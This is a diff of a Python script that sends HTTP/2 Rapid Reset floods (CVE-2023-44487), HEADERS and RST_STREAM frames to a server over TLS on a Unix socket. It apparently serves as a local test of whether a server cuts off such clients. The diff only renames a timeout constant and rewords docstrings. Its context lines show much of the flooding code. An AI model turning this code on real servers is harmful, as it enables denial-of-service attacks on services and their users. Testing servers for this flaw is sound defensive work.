@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
-"""Floods an HTTP/2 server with requests that it takes back at once (CVE-2023-44487).
+"""Floods an HTTP/2 server with requests that it resets at once (CVE-2023-44487).
 
 rapid_reset.py SOCKET CA PATH COUNT: over TLS to a Unix domain socket, COUNT requests for PATH, each
-one HEADERS and one RST_STREAM. Prints how many were sent before the server cut the connection; exit
-status 0 when it did, 1 when it took them all.
+one HEADERS and one RST_STREAM. Prints how many it sent before the server closed the connection; exit
+status 0 when the server closed it, 1 when it accepted them all.
 """
 import socket
 import ssl
@@ -14,7 +14,7 @@ HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
 END_STREAM_AND_HEADERS, ACK = 5, 1
 CANCEL = 8
 BATCH = 50  # requests in one write
-PATIENCE = 20  # seconds
+TIMEOUT = 20  # seconds
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -22,7 +22,7 @@ def frame(kind, flags, stream, payload=b""):
 
 
 def literal(name, value):
-    """A header field that leaves no trace in the peer's table: one block serves every request."""
+    """A header field outside the peer's dynamic table: every request can use the same block."""
     return bytes([0, len(name)]) + name + bytes([len(value)]) + value
 
 
@@ -30,7 +30,7 @@ def connect(path, ca):
     tls = ssl.create_default_context(cafile=ca)
     tls.set_alpn_protocols(["h2"])
     plain = socket.socket(socket.AF_UNIX)
-    plain.settimeout(PATIENCE)
+    plain.settimeout(TIMEOUT)
     plain.connect(path)
     connection = tls.wrap_socket(plain, server_hostname="localhost")
     connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
@@ -72,7 +72,7 @@ class Flood:
         except (BlockingIOError, TimeoutError, ssl.SSLWantReadError):
             return
         finally:
-            self.connection.settimeout(PATIENCE)
+            self.connection.settimeout(TIMEOUT)
         if not data:
             raise ConnectionResetError
         self.unread += data
@@ -86,7 +86,7 @@ class Flood:
 def main():
     path, ca, method, count = sys.argv[1:]
     flood = Flood(connect(path, ca), method)
-    flood.listen(PATIENCE)
+    flood.listen(TIMEOUT)
     cut = False
     try:
         while flood.sent < int(count):
